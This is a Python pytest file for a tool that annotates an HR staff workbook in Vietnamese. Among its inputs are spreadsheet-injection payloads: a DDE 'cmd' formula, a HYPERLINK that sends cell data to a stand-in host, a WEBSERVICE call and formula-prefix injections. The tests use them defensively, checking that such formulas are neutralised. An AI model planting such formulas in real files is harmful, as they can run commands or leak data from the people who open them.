"""HR's own workbook back: what is marked in it, what is kept, and that it can be corrected and sent again."""

import io
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from connector.errors import SourceError
from connector.model.plan import Candidate, Question, QuestionKind
from connector.model.roster import Roster, Where
from connector.sources.answer.annotate import annotate
from connector.sources.answer.cells import COLOURS
from connector.sources.answer.notes import Mark
from connector.sources.answer.status import STATUS
from connector.sources.mapping import dump_mapping, load_mapping
from connector.sources.workbook import WorkbookSource
from connector.text import same
from tests.sources.conftest import PEOPLE_HEADER, UNITS, MakeWorkbook, write

AT = datetime(2026, 3, 2, 8, 30, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
ROWS = (
    PEOPLE_HEADER,
    (1, "CB001", "Lê Đức Phương", "SNV", "Giám đốc", "0258 3822 123", "Đang công tác", "01/02/2026"),
    (2, "", "Trần Thị Thử", "VPS", "Chuyên viên", "", "", ""),
    (3, "CB003", "Phạm Văn Thử", "XYZ", "Chuyên viên", "", "Đi đâu đó", ""),
    (4, "CB004", "Võ Thị Thử", "VPS", "Chuyên viên", "09", "", ""),
)


def back(path: Path, *questions: Question) -> tuple[Workbook, Roster]:
    """Return the annotated workbook, and the roster that was read from the original."""
    roster = WorkbookSource(path).read()
    return openpyxl.load_workbook(io.BytesIO(annotate(path, roster, AT, questions))), roster


def people(book: Workbook) -> Worksheet:
    """Return HR's sheet of people."""
    sheet = book["Nhân sự"]
    assert isinstance(sheet, Worksheet)
    return sheet


def states(sheet: Worksheet) -> list[object]:
    """Return the column of states."""
    last = sheet.max_column
    return [sheet.cell(row, last).value for row in range(1, sheet.max_row + 1)]


def test_every_row_says_what_became_of_it(make: MakeWorkbook) -> None:
    """The column at the right has a state for each data row, and its own header."""
    book, _ = back(make(people=ROWS))
    assert states(people(book)) == [STATUS, "Đã nhận", "Bị từ chối", "Cần trả lời", "Đã nhận, nên xem lại"]


def test_cells_in_question_are_coloured_and_say_what_to_do(make: MakeWorkbook) -> None:
    """Each such cell has the colour of its gravity, and a comment: what is wrong, what to do."""
    book, roster = back(make(people=ROWS))
    sheet = people(book)
    for problem in roster.problems:
        cell = sheet[problem.where.cell]
        assert cell.fill.fgColor.rgb in COLOURS.values()
        assert problem.what.vi in cell.comment.text
        assert f"→ {problem.advice.vi}" in cell.comment.text
    assert sheet["B3"].fill.fgColor.rgb == COLOURS[Mark.REJECTED]
    assert sheet["C2"].comment is None


def test_the_first_sheet_tells_it_in_three_lines(make: MakeWorkbook) -> None:
    """How much was accepted, what waits and that nobody is closed for it, and what to do."""
    book, _ = back(make(people=ROWS))
    assert book.sheetnames[:2] == ["Kết quả", "Cần kiểm tra"]
    sheet = book["Kết quả"]
    lines = [str(sheet.cell(row, 2).value) for row in (4, 5, 6)]
    assert lines[0] == "Đã nhận 2 trong 4 dòng người và 2 trong 2 dòng đơn vị; không dòng nào bị bỏ sót."
    assert lines[1].startswith(
        "2 dòng chưa dùng được (1 dòng cần trả lời, 1 dòng bị từ chối). Chưa ai bị đóng"
    )
    assert "gửi lại chính tệp này" in lines[2]
    assert sheet["A2"].value == "Tệp nhan-su.xlsx, đọc lúc 08:30 ngày 02/03/2026"


def test_the_column_of_states_is_printed_with_the_table(make: MakeWorkbook) -> None:
    """A print area that HR set around the table takes in what was added beside it; another one stays."""
    path = make(people=ROWS)
    book = openpyxl.load_workbook(path)
    width = people(book).max_column
    for last, printed in ((width, width + 1), (2, 2)):
        people(book).print_area = f"A1:{get_column_letter(last)}9"
        book.save(path)
        area = people(back(path)[0]).print_area
        assert str(area).endswith(f"$A$1:${get_column_letter(printed)}$9")


def test_a_clean_file_needs_nothing(make: MakeWorkbook) -> None:
    """Nothing to correct: the third line says that nothing has to be sent."""
    book, _ = back(make())
    assert book["Kết quả"]["B6"].value == "Không cần gửi lại tệp."
    assert book["Cần kiểm tra"]["A4"].value == "Không có chỗ nào."


def test_the_list_has_everything_with_the_name_as_in_the_file(make: MakeWorkbook) -> None:
    """Sheet, cell, serial number, name, gravity, problem, advice; the gravest first; cells are links."""
    book, roster = back(make(people=ROWS))
    rows = [[cell.value for cell in row] for row in book["Cần kiểm tra"].iter_rows(min_row=4)]
    assert len(rows) == len(roster.problems)
    assert rows[0][:5] == ["Nhân sự", "B3", "2", "Trần Thị Thử", "Bị từ chối"]
    assert rows[-1][4] == "Đã nhận, nên xem lại"
    assert {row[5] for row in rows} == {problem.what.vi for problem in roster.problems}
    link = book["Cần kiểm tra"]["B4"].hyperlink
    assert link is not None
    assert link.location == "'Nhân sự'!B3"


def test_formatting_comments_and_formulas_of_hr_are_kept(make: MakeWorkbook) -> None:
    """Fonts, widths, merged cells, hidden rows, number formats, sums, and what others wrote in comments."""
    path = make(people=ROWS)
    book = openpyxl.load_workbook(path)
    sheet = people(book)
    sheet["C2"].font = Font(name="Times New Roman", size=13, italic=True)
    sheet["B3"].font = Font(name="Arial", bold=True)
    sheet["B3"].comment = Comment("Hỏi lại phòng tổ chức", "Chị Thử")
    sheet.column_dimensions["C"].width = 33
    sheet.row_dimensions[5].hidden = True
    sheet["J1"] = "=1+1"
    book.save(path)
    kept = people(back(path)[0])
    assert (kept["C2"].font.name, kept["C2"].font.size, kept["C2"].font.italic) == (
        "Times New Roman",
        13,
        True,
    )
    assert kept["B3"].font.bold
    assert kept["B3"].comment.text.startswith("Hỏi lại phòng tổ chức\n\n")
    assert kept.column_dimensions["C"].width == 33
    assert kept.row_dimensions[5].hidden
    assert (kept["J1"].value, kept["J1"].data_type) == ("=1+1", "f")


REACHING = [
    "=cmd|'/c calc'!A1",
    "='[other.xlsx]Sheet1'!A1",
    '=HYPERLINK("http://a.example/"&A1)',
    '=WEBSERVICE("http://a")',
]


@pytest.mark.parametrize("formula", REACHING)
def test_formulas_that_reach_out_of_the_file_are_not_handed_on(formula: str, make: MakeWorkbook) -> None:
    """Programs, other files, the network: the value such a formula last had is kept, else its text, as text."""
    path = make(people=ROWS)
    book = openpyxl.load_workbook(path)
    people(book)["K2"] = formula
    book.save(path)
    cell = people(back(path)[0])["K2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r="])
def test_text_of_hr_never_becomes_a_formula(begin: str, tmp_path: Path) -> None:
    """Names that begin like a formula are shown as text in the list, and marked so for Excel."""
    bad = f'{begin}HYPERLINK("http://a.example","Thử")'
    rows = (PEOPLE_HEADER, (1, "CB1", "Lê Thử", "SNV", "", "", "", ""), (2, "", "x", "SNV", "", "", "", ""))
    path = write(tmp_path / "ns.xlsx", {"Nhân sự": rows, "Đơn vị": UNITS})
    book = openpyxl.load_workbook(path)
    cell = people(book)["C3"]
    assert isinstance(cell, Cell)
    cell.value, cell.data_type = bad, "s"
    book.save(path)
    answer, _ = back(path)
    texts = [one for sheet in answer.worksheets for row in sheet.iter_rows() for one in row if one.value]
    assert [one.coordinate for one in texts if one.data_type == "f"] == []
    listed = answer["Cần kiểm tra"]["D4"]
    assert str(listed.value).strip().endswith('"Thử")')
    assert listed.data_type == "s"


def test_an_answer_is_read_as_the_original_is(make: MakeWorkbook) -> None:
    """HR corrects the answer and sends it back: people, units, counts and problems are the same."""
    path = make(people=ROWS)
    roster = WorkbookSource(path).read()
    again = path.with_name("nhan-su-2.xlsx")
    again.write_bytes(annotate(path, roster, AT))
    read = WorkbookSource(again).read()
    assert [person.key for person in read.people] == [person.key for person in roster.people]
    assert (read.people_rows.raw, read.people_rows.accepted) == (4, 2)
    assert [(p.where.cell, p.what) for p in read.problems] == [
        (p.where.cell, p.what) for p in roster.problems
    ]


def test_an_answer_fits_the_saved_mapping_of_the_original(make: MakeWorkbook, tmp_path: Path) -> None:
    """The column of states is no changed header."""
    path = make(people=ROWS)
    saved = tmp_path / "mapping.toml"
    saved.write_text(dump_mapping(WorkbookSource(path).propose()), encoding="utf-8")
    path.write_bytes(annotate(path, WorkbookSource(path).read(), AT))
    assert WorkbookSource(path, mapping=load_mapping(saved)).read().people_rows.accepted == 2


def test_answering_an_answer_replaces_the_earlier_one(make: MakeWorkbook) -> None:
    """Corrected cells lose colour and comment; there is one column of states and one pair of sheets."""
    path = make(people=ROWS)
    path.write_bytes(annotate(path, WorkbookSource(path).read(), AT))
    book = openpyxl.load_workbook(path)
    people(book)["B3"] = "CB002"
    book.save(path)
    book, _ = back(path)
    assert book.sheetnames == ["Kết quả", "Cần kiểm tra", "Nhân sự", "Đơn vị"]
    sheet = people(book)
    assert [cell.value for cell in sheet[1]].count(STATUS) == 1
    assert sheet["B3"].comment is None
    assert sheet["B3"].fill == PatternFill()
    assert states(sheet)[2] == "Đã nhận"


def csv_file(folder: Path) -> Path:
    """Write HR's people as a .csv; the units stand in a workbook beside it."""
    path = folder / "ns.csv"
    lines = [";".join(map(str, row)) for row in ROWS]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8-sig")
    return path


def ods_file(folder: Path) -> Path:
    """Write HR's people as an .ods, by hand."""
    return open_document(folder / "ns.ods", ROWS)


def open_document(path: Path, rows: tuple[tuple[object, ...], ...]) -> Path:
    """Write the least OpenDocument spreadsheet with one sheet."""
    cells = "".join(
        "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{value}</text:p></table:table-cell>'
            for value in row
        )
        + "</table:table-row>"
        for row in rows
    )
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "table", "text")
    )
    content = (
        f'<?xml version="1.0"?><office:document-content {spaces}><office:body><office:spreadsheet>'
        f'<table:table table:name="Nhân sự">{cells}</table:table></office:spreadsheet></office:body>'
        "</office:document-content>"
    )
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
    return path


@pytest.mark.parametrize("other", [csv_file, ods_file])
def test_other_formats_come_back_as_a_new_workbook(other: Callable[[Path], Path], tmp_path: Path) -> None:
    """Of .csv and .ods there are the values, with the same marks in them."""
    units = write(tmp_path / "dv.xlsx", {"Đơn vị": UNITS})
    path = other(tmp_path)
    roster = WorkbookSource(path, units).read()
    book = openpyxl.load_workbook(io.BytesIO(annotate(path, roster, AT)))
    sheet = book.worksheets[2]
    assert (sheet["C2"].value, sheet["B3"].fill.fgColor.rgb) == ("Lê Đức Phương", COLOURS[Mark.REJECTED])
    assert states(sheet)[:3] == [STATUS, "Đã nhận", "Bị từ chối"]


def test_open_questions_are_shown_beside_their_row(make: MakeWorkbook) -> None:
    """What waits for a decision is marked in its own colour, with the choices."""
    question = Question(
        "collision:person/CB001",
        QuestionKind.COLLISION,
        "person/CB001",
        "Lê Đức Phương",
        "SNV",
        same("đã có người dùng địa chỉ này."),
        (Candidate("ldphuong2", "ldphuong2@khanhhoa.gov.vn", "x"),),
        where=Where("nhan-su.xlsx", "Nhân sự", "B2"),
    )
    book, _ = back(make(people=ROWS), question)
    cell = people(book)["B2"]
    assert cell.fill.fgColor.rgb == COLOURS[Mark.DECIDE]
    assert "ldphuong2@khanhhoa.gov.vn" in cell.comment.text
    assert states(people(book))[1] == "Chờ quyết định"
    assert "1 việc đang chờ" in str(book["Kết quả"]["B5"].value)


def test_a_mark_on_a_merged_cell_stands_where_it_is_seen(tmp_path: Path) -> None:
    """A comment inside a merged area is put on the cell that shows it."""
    rows = (PEOPLE_HEADER, *((n, f"CB{n}", "Lê Thử", "XYZ", "", "", "", "") for n in (1, 2)), ROWS[1])
    path = write(tmp_path / "ns.xlsx", {"Nhân sự": rows, "Đơn vị": UNITS})
    book = openpyxl.load_workbook(path)
    people(book).merge_cells("D2:D3")
    book.save(path)
    cell = people(back(path)[0])["D2"]
    assert "XYZ" in cell.comment.text


def test_a_file_that_is_refused_is_refused_here_too(make: MakeWorkbook) -> None:
    """The limited process says so in one sentence; nothing is written."""
    path = make(people=ROWS)
    roster = WorkbookSource(path).read()
    path.write_bytes(path.read_bytes()[:-400])
    with pytest.raises(SourceError, match="hỏng"):
        annotate(path, roster, AT)


def test_what_the_copy_lacks_is_said_on_its_first_sheet(make: MakeWorkbook) -> None:
    """Pictures of the original are not in the answer, and HR is told; without any there is nothing to tell."""
    path = make(people=ROWS)
    told = "Hình ảnh và biểu đồ của tệp gốc không có trong bản này"
    for pictures in (False, True):
        if pictures:
            with zipfile.ZipFile(path, "a") as archive:
                archive.writestr("xl/media/image1.png", b"not looked at")
        sheet = back(path)[0].worksheets[0]
        said = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value]
        assert any(text.startswith(told) for text in said) is pictures
